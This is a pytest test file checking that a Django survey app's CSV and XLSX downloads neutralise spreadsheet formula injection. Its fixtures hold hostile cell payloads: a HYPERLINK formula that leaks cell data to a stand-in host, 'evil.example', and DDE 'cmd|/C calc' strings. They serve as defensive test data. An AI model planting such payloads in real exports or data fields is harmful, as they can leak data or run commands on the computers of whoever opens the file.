"""Every CSV and XLSX the app writes neutralises spreadsheet formulas: names typed by
anyone (an organisation called ``=HYPERLINK(…)``, a person called ``@SUM(1)``) reach
the file with a leading quote, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from joinedup.analysis.cells import TRIGGERS, is_formula_like
from joinedup.cli import main
from joinedup.registry.models import Person
from joinedup.surveys.extract import partnership_rounds
from tests.conftest import PARTNERSHIP_A

pytestmark = pytest.mark.django_db

HOSTILE_ORG = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE_ORG_2 = "+cmd|' /C calc'!A0"
HOSTILE_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
YN_NO = {"value": 2, "label": "-no"}


@pytest.fixture
def hostile(demo):
    """Partnership A with two members renamed, and a waiting invitee renamed."""
    partnership = demo[PARTNERSHIP_A]
    round_ = partnership_rounds(partnership).filter(period="spring 2026").first()
    waiting = round_.invitations.filter(submitted=False).select_related("person").first()
    Person.objects.filter(pk=waiting.person_id).update(display_name=HOSTILE_PERSON)
    orgs = [m.organisation for m in partnership.memberships.select_related("organisation")]
    orgs[0].name, orgs[1].name = HOSTILE_ORG, HOSTILE_ORG_2
    orgs[0].save(update_fields=["name"])
    orgs[1].save(update_fields=["name"])
    return partnership, round_


def _cells(text: str) -> list[str]:
    lines = [line for line in text.splitlines() if not line.startswith("# CONFIDENTIAL")]
    return [cell for row in csv.reader(io.StringIO("\n".join(lines))) for cell in row]


def _assert_neutral(cells: list[str], *expected: str) -> None:
    dangerous = [c for c in cells if is_formula_like(c)]
    assert dangerous == []
    for name in expected:
        assert "'" + name in cells
        assert name not in cells


def test_csv_downloads_neutralise_formulas(hostile, personas) -> None:
    partnership, round_ = hostile
    admin = personas.client("admin")
    reminders = admin.get(reverse("surveys:reminders", args=[round_.pk]))
    assert reminders.status_code == 200
    _assert_neutral(_cells(reminders.content.decode()), HOSTILE_PERSON)
    nodes = admin.get(reverse("networks:download", args=[partnership.pk, "nodes"]))
    assert nodes.status_code == 200
    _assert_neutral(_cells(nodes.content.decode()), HOSTILE_ORG, HOSTILE_ORG_2)
    for url in (
        reverse("networks:download", args=[partnership.pk, "edges"]),
        reverse("networks:pairs", args=[partnership.pk]),
    ):
        response = admin.get(url)
        assert response.status_code == 200, url
        _assert_neutral(_cells(response.content.decode()))


def test_network_nodes_keep_negative_and_fractional_numbers(hostile, personas) -> None:
    partnership, _round = hostile
    text = personas.client("admin").get(
        reverse("networks:download", args=[partnership.pk, "nodes"])
    )
    rows = list(csv.DictReader(io.StringIO(text.content.decode())))
    assert rows
    assert all(float(r["degree"]) >= 0 for r in rows)
    assert not any(r["betweenness"].startswith("'") for r in rows)


def test_xlsform_export_writes_no_formula_cells(tmp_path, capsys) -> None:
    from joinedup.analysis.instruments import parse_instrument
    from joinedup.analysis.xlsform.export import write_xlsform

    instrument = parse_instrument(
        {
            "id": "hostile",
            "version": 1,
            "title": {"en": '=HYPERLINK("http://evil.example")'},
            "scales": {
                "yn": {"choices": [{"value": 1, "label": "@yes"}, {"value": 2, "label": "-no"}]}
            },
            "dimensions": [
                {
                    "name": "d",
                    "label": "+dimension",
                    "items": [{"name": "q", "label": "=1+1", "scale": "yn"}],
                }
            ],
        }
    )
    path = tmp_path / "hostile.xlsx"
    write_xlsform(instrument, path)
    book = openpyxl.load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in TRIGGERS:
                    texts.append(cell.value)
    assert {"=1+1", "@yes", "-no", "+dimension"} <= set(texts)


def test_cli_instrument_export_writes_text_cells(tmp_path, capsys, db) -> None:
    out = tmp_path / "hc.xlsx"
    assert main(["instrument", "export", "health-check", "-o", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    formulas = [
        c.coordinate
        for s in book.worksheets
        for r in s.iter_rows()
        for c in r
        if c.data_type == "f"
    ]
    assert formulas == []
